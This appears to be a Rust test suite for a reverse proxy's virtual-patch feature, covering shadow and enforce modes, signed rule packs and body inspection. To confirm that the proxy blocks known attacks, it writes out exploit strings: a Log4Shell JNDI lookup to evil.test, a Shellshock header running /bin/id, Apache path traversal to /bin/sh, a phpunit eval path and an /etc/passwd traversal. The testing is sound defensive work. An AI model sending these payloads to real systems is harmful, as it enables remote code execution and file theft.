//! Virtual patches: in shadow first, then refusing; turned off by sites; packs that come and go while it runs; bodies of
//! which the beginning is read ahead and that arrive whole all the same.

use std::path::{Path, PathBuf};

use crate::harness::client::full;
use crate::harness::{Answer, Gate, Origin, Proxy, ProxyBuilder, wait_until, within};

const SITE: &str = "shop.test";
const JNDI: &str = "/?x=${jndi:ldap://evil.test/a}";

fn patched(mode: &str) -> ProxyBuilder {
    Proxy::builder().set("patches.mode", &format!("\"{mode}\""))
}

/// An origin that sends bodies back.
async fn echo() -> Origin {
    Origin::answering(|r| Answer::ok(&r.body)).await
}

/// A pack with one rule that looks for a word in the path.
fn pack(version: u32, word: &str) -> String {
    format!(
        "name = \"own\"\nversion = {version}\nexpires = \"2099-12-31\"\n[[rule]]\nid = \"own-1\"\ncve = [\"CVE-2099-1\"]\n\
         title = \"T\"\nseverity = \"high\"\nmatches = {{ in = [\"path\"], contains = [\"/{word}\"] }}\n\
         case = [{{ hit = true, target = \"/{word}\" }}, {{ hit = false }}]\n"
    )
}

/// Writes a pack and its signature; the signature first, as a deploy tool should.
fn sign(folder: &Path, name: &str, text: &str, pair: &minisign::KeyPair) {
    std::fs::create_dir_all(folder).unwrap();
    let signature = minisign::sign(Some(&pair.pk), &pair.sk, text.as_bytes(), Some("by us"), None).unwrap();
    std::fs::write(folder.join(format!("{name}.minisig")), signature.into_string()).unwrap();
    std::fs::write(folder.join(name), text).unwrap();
}

#[tokio::test]
async fn in_shadow_an_exploit_passes_and_is_marked() {
    let origin = Origin::saying("ok").await;
    let proxy = Proxy::builder().set("patches.builtin", "true").site(SITE, &origin.backends()).start().await;
    assert_eq!(proxy.get(SITE, "/?q=winter+jacket").await.status, 200);
    assert_eq!(proxy.get(SITE, JNDI).await.status, 200, "packs begin in shadow");
    assert_eq!(origin.count(), 2);

    let records = proxy.records(2).await;
    assert!(records[0].get("patch").is_none() && records[0].get("would_block").is_none(), "{}", records[0]);
    assert_eq!(records[1]["patch"], "log4shell");
    assert_eq!(records[1]["would_block"], serde_json::json!(["patch"]));
    let metrics = proxy.metrics().await;
    let labels = [("site", SITE), ("rule", "log4shell"), ("mode", "shadow")];
    assert_eq!(metrics.sum("tidegate_patch_matches_total", &labels), 1.0);
    assert_eq!(metrics.sum("tidegate_would_block_total", &[("policy", "patch")]), 1.0);
    assert!(metrics.sum("tidegate_patch_rules", &[]) > 50.0);
}

#[tokio::test]
async fn enforced_it_is_refused_and_the_connection_goes_on() {
    let origin = Origin::saying("ok").await;
    let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
    let mut wire = proxy.wire(SITE).await;
    wire.get(SITE, JNDI).await.expect(403, "PATCHED");
    wire.ask("GET", "/", SITE, "User-Agent: () { :;}; /bin/id\r\n").await.expect(403, "PATCHED");
    wire.get(SITE, "/cgi-bin/.%2e/.%2e/bin/sh").await.expect(403, "PATCHED");
    assert_eq!(wire.get(SITE, "/").await.status, 200);
    assert_eq!(origin.count(), 1, "no backend saw the others");

    let mut h2 = proxy.h2(SITE).await;
    assert_eq!(h2.get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php").await.status, 403);
    let rules: Vec<_> =
        proxy.records(5).await.iter().map(|r| r["patch"].as_str().unwrap_or("-").to_owned()).collect();
    assert_eq!(rules, ["log4shell", "shellshock", "apache-traversal", "-", "phpunit"]);
}

#[tokio::test]
async fn a_site_turns_off_what_it_does_not_want() {
    let origin = Origin::saying("ok").await;
    let with = |patches: &str| format!("{}\npatches = {patches}", origin.backends());
    let proxy = patched("shadow")
        .site("off.test", &with("\"off\""))
        .site("one.test", &with("{ mode = \"enforce\", off = [\"CVE-2021-44228\"] }"))
        .site("pack.test", &with("{ mode = \"enforce\", off = [\"starter\"] }"))
        .start()
        .await;
    for site in ["off.test", "one.test", "pack.test"] {
        assert_eq!(proxy.get(site, JNDI).await.status, 200, "{site}");
    }
    assert!(proxy.records(3).await.iter().all(|record| record.get("patch").is_none()));
    proxy.get("one.test", "/?x=../../../etc/passwd").await.expect(403, "PATCHED");
    assert_eq!(proxy.get("pack.test", "/?x=../../../etc/passwd").await.status, 200);

    // A reload enforces it for everybody, the site that said "off" excepted.
    proxy.write_site("one.test", &with("{ mode = \"enforce\" }"));
    proxy.reload().await;
    proxy.get("one.test", JNDI).await.expect(403, "PATCHED");
    assert_eq!(proxy.get("off.test", JNDI).await.status, 200);
}

#[tokio::test]
async fn a_signed_pack_is_taken_up_at_once_and_a_bad_one_leaves_the_last_good_in_force() {
    let origin = Origin::saying("ok").await;
    let pair = minisign::KeyPair::generate_unencrypted_keypair().unwrap();
    let other = minisign::KeyPair::generate_unencrypted_keypair().unwrap();
    let proxy = patched("enforce")
        .set("patches.builtin", "false")
        .set("patches.keys", &format!("[\"{}\"]", pair.pk.to_base64()))
        .site(SITE, &origin.backends())
        .start()
        .await;
    let folder = proxy.path().join("patches");
    assert_eq!(proxy.get(SITE, "/evil").await.status, 200, "there is no pack yet, nor a folder");

    sign(&folder, "own.toml", &pack(1, "evil"), &pair);
    proxy.reload().await;
    proxy.get(SITE, "/evil").await.expect(403, "PATCHED");

    // Nobody asks for a reload: the folder is watched.
    sign(&folder, "own.toml", &pack(2, "worse"), &pair);
    let taken = || async { proxy.get(SITE, "/worse").await.status == 403 };
    crate::harness::wait_for("the new pack", || async { taken().await.then_some(()) }).await;
    assert_eq!(proxy.get(SITE, "/evil").await.status, 200);

    let file = folder.join("own.toml");
    let good = std::fs::read(&file).unwrap();
    let unsigned = || std::fs::remove_file(folder.join("own.toml.minisig")).unwrap();
    for (bad, why) in [
        (0, "changed after it was signed"),
        (1, "not in [patches] keys"),
        (2, "not signed"),
        (3, "expired on 2020-01-01"),
        (4, "line 1"),
    ] {
        match bad {
            0 => std::fs::write(&file, [&good[..], b"\n"].concat()).unwrap(),
            1 => sign(&folder, "own.toml", &pack(3, "other"), &other),
            2 => unsigned(),
            3 => sign(&folder, "own.toml", &pack(3, "other").replace("2099-12-31", "2020-01-01"), &pair),
            _ => sign(&folder, "own.toml", "name = 1", &pair),
        }
        let report = proxy.reload().await;
        let told = report["diagnostics"].to_string();
        assert!(
            told.contains(why) && told.contains("version 2, which was good, stays in force"),
            "{why}: {told}"
        );
        assert_eq!(report["refused"], false);
        proxy.get(SITE, "/worse").await.expect(403, "PATCHED");
        assert_eq!(proxy.get(SITE, "/other").await.status, 200);
    }
    let listed = proxy.command(&["patch", "list"]);
    let text = String::from_utf8_lossy(&listed.stdout).into_owned();
    assert!(
        text.contains("own-1") && text.contains("CVE-2099-1") && text.contains("signed: by us"),
        "{text}"
    );
    assert!(text.contains("stays in force"), "{text}");

    // Gone is gone.
    std::fs::remove_file(&file).unwrap();
    proxy.reload().await;
    assert_eq!(proxy.get(SITE, "/worse").await.status, 200);
}

/// A proxy with one pack of its own, the folder of that, and whose signature counts.
fn signed(origin: &Origin) -> (ProxyBuilder, PathBuf, minisign::KeyPair) {
    let pair = minisign::KeyPair::generate_unencrypted_keypair().unwrap();
    let builder = patched("enforce")
        .set("patches.builtin", "false")
        .set("patches.keys", &format!("[\"{}\"]", pair.pk.to_base64()))
        .site(SITE, &origin.backends());
    let folder = builder.folder().join("patches");
    sign(&folder, "own.toml", &pack(1, "evil"), &pair);
    (builder, folder, pair)
}

#[tokio::test]
async fn regression_a_pack_that_goes_bad_while_its_former_version_is_in_force_is_counted() {
    let origin = Origin::saying("ok").await;
    let (builder, folder, pair) = signed(&origin);
    let proxy = builder.start().await;
    let counted = async |state: &str| proxy.metrics().await.sum("tidegate_patch_packs", &[("state", state)]);
    assert_eq!((counted("in-force").await, counted("kept").await), (1.0, 0.0));
    std::fs::write(folder.join("own.toml"), "name = 1").unwrap();
    proxy.reload().await;
    assert_eq!((counted("in-force").await, counted("kept").await), (1.0, 1.0));
    proxy.get(SITE, "/evil").await.expect(403, "PATCHED");
    sign(&folder, "own.toml", &pack(1, "evil"), &pair);
    proxy.reload().await;
    assert_eq!((counted("in-force").await, counted("kept").await), (1.0, 0.0));
}

#[tokio::test]
async fn the_last_good_version_of_a_pack_outlives_a_restart() {
    let origin = Origin::saying("ok").await;
    let (builder, folder, pair) = signed(&origin);
    let mut proxy = builder.start().await;
    proxy.get(SITE, "/evil").await.expect(403, "PATCHED");

    // Broken while nobody looked.
    std::fs::write(folder.join("own.toml"), "name = 1").unwrap();
    proxy.restart().await;
    proxy.get(SITE, "/evil").await.expect(403, "PATCHED");
    let kept = |listed: &std::process::Output| {
        let text = String::from_utf8_lossy(&listed.stdout).into_owned();
        assert!(
            text.contains("own-1") && text.contains("version 1, which was good, stays in force"),
            "{text}"
        );
    };
    kept(&proxy.command_async(&["patch", "list"]).await);
    assert_eq!(proxy.metrics().await.sum("tidegate_patch_packs", &[("state", "kept")]), 1.0);

    // The whole folder is away, as when it was not mounted.
    let away = proxy.path().join("away");
    std::fs::rename(&folder, &away).unwrap();
    proxy.restart().await;
    proxy.get(SITE, "/evil").await.expect(403, "PATCHED");
    kept(&proxy.command_async(&["patch", "list"]).await);
    assert!(proxy.stderr().contains("this pack is not there any more"), "{}", proxy.stderr());

    // It is back and good: nothing is told of it. Then somebody removes it, and so it stays.
    std::fs::rename(&away, &folder).unwrap();
    sign(&folder, "own.toml", &pack(2, "worse"), &pair);
    proxy.reload().await;
    proxy.get(SITE, "/worse").await.expect(403, "PATCHED");
    assert_eq!(proxy.metrics().await.sum("tidegate_patch_packs", &[("state", "kept")]), 0.0);
    std::fs::remove_file(folder.join("own.toml")).unwrap();
    proxy.reload().await;
    proxy.restart().await;
    assert_eq!(proxy.get(SITE, "/worse").await.status, 200);
}

#[tokio::test]
async fn a_name_turned_off_that_no_pack_has_is_told_by_reload_and_check() {
    let origin = Origin::saying("ok").await;
    let site = format!(
        "{}\npatches = {{ off = [\"log4shel\", \"starter\", \"CVE-2014-6271\", \"log4shell\"] }}",
        origin.backends()
    );
    let proxy = patched("enforce").site(SITE, &site).start().await;
    assert_eq!(proxy.get(SITE, JNDI).await.status, 200, "what is right counts");
    let report = proxy.reload().await;
    let told = report["diagnostics"].to_string();
    assert_eq!(told.matches("unknown-patch").count(), 1, "{told}");
    assert!(told.contains("no virtual patch in force is called `log4shel`"), "{told}");
    let checked = proxy.command_async(&["check"]).await;
    let text = String::from_utf8_lossy(&checked.stdout).into_owned();
    assert!(checked.status.success() && text.contains("called `log4shel`"), "{text}");
}

#[tokio::test]
async fn matches_are_counted_on_over_reloads() {
    let origin = Origin::saying("ok").await;
    let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
    let matches = |mode: &'static str| {
        let proxy = &proxy;
        async move {
            let labels = [("site", SITE), ("rule", "log4shell"), ("mode", mode)];
            proxy.metrics().await.sum("tidegate_patch_matches_total", &labels)
        }
    };
    proxy.get(SITE, JNDI).await.expect(403, "PATCHED");
    proxy.write_site(SITE, &format!("{}\npatches = {{ mode = \"shadow\" }}", origin.backends()));
    assert_eq!(proxy.reload().await["refused"], false);
    assert_eq!(proxy.get(SITE, JNDI).await.status, 200);
    proxy.remove_site(SITE);
    proxy.reload().await;
    proxy.write_site(SITE, &origin.backends());
    proxy.reload().await;
    proxy.get(SITE, JNDI).await.expect(403, "PATCHED");
    assert_eq!((matches("enforce").await, matches("shadow").await), (2.0, 1.0));
}

#[tokio::test]
async fn packs_are_verified_and_tested_by_command() {
    let pair = minisign::KeyPair::generate_unencrypted_keypair().unwrap();
    let place = tempfile::tempdir().unwrap();
    let run = |args: &[&str]| {
        let output = crate::harness::proxy::run_to_end(args);
        (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned())
    };
    sign(place.path(), "own.toml", &pack(1, "evil"), &pair);
    let file = place.path().join("own.toml");
    let (file, key) = (file.to_str().unwrap(), pair.pk.to_base64());
    let (code, text) = run(&["patch", "verify", file, "--key", &key]);
    assert!(
        code == Some(0) && text.contains("own version 1, 1 rules, until 2099-12-31, signed: by us"),
        "{text}"
    );
    let (code, text) = run(&["patch", "test", file]);
    assert!(code == Some(0) && text.contains("1 rules, 2 cases"), "{text}");
    // A case that does not hold, and a signature that does not fit any more.
    std::fs::write(file, pack(1, "evil").replace("target = \"/evil\"", "target = \"/good\"")).unwrap();
    let (code, text) = run(&["patch", "test", file]);
    assert!(
        code == Some(1) && text.contains("rule `own-1`, case 1: it is not matched, and must be"),
        "{text}"
    );
    let (code, text) = run(&["patch", "verify", file, "--key", &key, "--format", "json"]);
    assert!(code == Some(1) && text.contains("changed after it was signed"), "{text}");
}

#[tokio::test]
async fn an_exploit_in_a_body_is_refused_before_a_backend_hears_of_it() {
    let origin = echo().await;
    let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
    let mut wire = proxy.wire(SITE).await;
    let body = "name=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D";
    let head = format!(
        "POST /form HTTP/1.1\r\nHost: {SITE}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    // In two pieces, the exploit across their border.
    wire.send(format!("{head}{}", &body[..20])).await;
    wire.send(&body[20..]).await;
    wire.reply_to("POST").await.expect(403, "PATCHED");
    assert_eq!(wire.get(SITE, "/").await.status, 200, "the body was read: the connection goes on");
    let mut h2 = proxy.h2(SITE).await;
    let request = h2.request("POST", "/login").header("content-type", "application/json");
    let reply = h2.send(request.body(full(r#"{"user":"\u0024{jndi:ldap://evil.test/a}"}"#)).unwrap()).await;
    assert_eq!(reply.status, 403);
    assert_eq!(origin.count(), 1);
    // Behind the bytes that are looked at nothing is found: that is the bound.
    let padded = format!("{}{body}", "a=b&".repeat(4096));
    let reply = wire.ask("GET", "/", SITE, "").await;
    assert_eq!(reply.status, 200);
    assert_eq!(wire.post(SITE, "/form", &padded).await.status, 200);
}

#[tokio::test]
async fn regression_a_body_with_two_types_does_not_pass_as_the_harmless_one() {
    let origin = echo().await;
    for (mode, status) in [("enforce", 400), ("shadow", 200)] {
        let proxy = patched(mode).site(SITE, &origin.backends()).start().await;
        let body = "name=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D";
        let types = "Content-Type: image/png\r\nContent-Type: application/x-www-form-urlencoded";
        let mut wire = proxy.wire(SITE).await;
        let length = body.len();
        wire.send(format!(
            "POST / HTTP/1.1\r\nHost: {SITE}\r\n{types}\r\nContent-Length: {length}\r\n\r\n{body}"
        ))
        .await;
        assert_eq!(wire.reply_to("POST").await.status, status, "{mode}");
    }
}

#[tokio::test]
async fn what_was_read_ahead_arrives_whole() {
    let origin = echo().await;
    let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
    let body: String = (0..300_000)
        .map(|n: u32| char::from(b'a' + (n.wrapping_mul(2_654_435_761) >> 24) as u8 % 26))
        .collect();
    let mut wire = proxy.wire(SITE).await;
    for length in [0, 1, 8_191, 8_192, 8_193, 300_000] {
        let reply = wire.post(SITE, "/upload", &body[..length]).await;
        assert!(reply.status == 200 && reply.text() == body[..length], "{length} bytes, {}", reply.status);
    }
    // In chunks, the last of which says that it is over.
    wire.send(format!("POST /upload HTTP/1.1\r\nHost: {SITE}\r\nTransfer-Encoding: chunked\r\n\r\n")).await;
    for piece in body.as_bytes()[..50_000].chunks(777) {
        wire.send([format!("{:x}\r\n", piece.len()).as_bytes(), piece, b"\r\n"].concat()).await;
    }
    wire.send("0\r\n\r\n").await;
    let reply = wire.reply_to("POST").await;
    assert!(reply.status == 200 && reply.text() == body[..50_000]);
    let mut h2 = proxy.h2(SITE).await;
    for length in [5, 20_000, 300_000] {
        let reply =
            h2.send(h2.request("POST", "/upload").body(full(body[..length].to_owned())).unwrap()).await;
        assert!(reply.status == 200 && reply.text() == body[..length], "{length} bytes over HTTP/2");
    }
    let sent = origin.requests();
    assert!(sent.iter().all(|request| request.field("content-length").is_some()
        != request.field("transfer-encoding").is_some()
        || request.body.is_empty()));
    let log = proxy.records(10).await;
    assert!(log.iter().any(|record| record["bytes_in"] == 300_000), "what is counted is the whole body");
}

#[tokio::test]
async fn a_client_that_waits_to_be_told_is_told() {
    let origin = echo().await;
    let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
    let mut wire = proxy.wire(SITE).await;
    let head = |kind: &str| {
        format!(
            "PUT / HTTP/1.1\r\nHost: {SITE}\r\nContent-Length: 5\r\nExpect: 100-continue\r\nContent-Type: {kind}\r\n\r\n"
        )
    };
    for kind in ["text/plain", "image/png"] {
        wire.send(head(kind)).await;
        let interim = within("100 Continue", wire.head()).await.unwrap().unwrap();
        assert_eq!(interim.second(), "100", "{kind}");
        wire.send("hello").await;
        assert_eq!(wire.reply_to("PUT").await.text(), "hello", "{kind}");
    }
    let asked = origin.requests();
    assert_eq!(asked[0].field("expect"), None, "who was asked by us need not be asked again");
    assert_eq!(asked[1].field("expect"), Some("100-continue"), "of an image nothing is read ahead");
}

#[tokio::test]
async fn a_conversation_stands_still_for_no_rule_on_trial() {
    // The backend answers the first piece before the second is sent.
    let gate = Gate::default();
    let inner = gate.clone();
    let origin = Origin::scripted(move |mut x| {
        let gate = inner.clone();
        async move {
            while x.wire.ahead.len() < 8 {
                x.wire.fill().await.ok()?;
            }
            gate.open();
            x.read_body().await.ok()?;
            x.answer(Answer::ok(x.request.body.clone())).await.ok()?;
            Some(x)
        }
    })
    .await;
    let proxy = patched("shadow").site(SITE, &origin.backends()).start().await;
    let mut wire = proxy.wire(SITE).await;
    wire.send(format!(
        "POST /talk HTTP/1.1\r\nHost: {SITE}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nfirst\r\n"
    ))
    .await;
    within("the backend to get the first piece", gate.pass()).await;
    wire.send("6\r\nsecond\r\n0\r\n\r\n").await;
    assert_eq!(wire.reply_to("POST").await.text(), "firstsecond");
}

#[tokio::test]
async fn a_body_that_does_not_come_has_the_time_of_bodies() {
    let origin = echo().await;
    let proxy = patched("enforce")
        .set("server.timeouts.body", "\"300ms\"")
        .site(SITE, &origin.backends())
        .start()
        .await;
    let mut wire = proxy.wire(SITE).await;
    wire.send(format!("POST / HTTP/1.1\r\nHost: {SITE}\r\nContent-Length: 100\r\n\r\nfew")).await;
    wire.reply_to("POST").await.expect(408, "BODY-TIMEOUT");
    assert_eq!(origin.count(), 0, "no backend waited with us");
    // A client that leaves in the middle of it costs nobody anything.
    let mut gone = proxy.wire(SITE).await;
    gone.send(format!("POST / HTTP/1.1\r\nHost: {SITE}\r\nContent-Length: 100\r\n\r\nfew")).await;
    drop(gone);
    proxy.record_with("CLIENT-GONE").await;
}
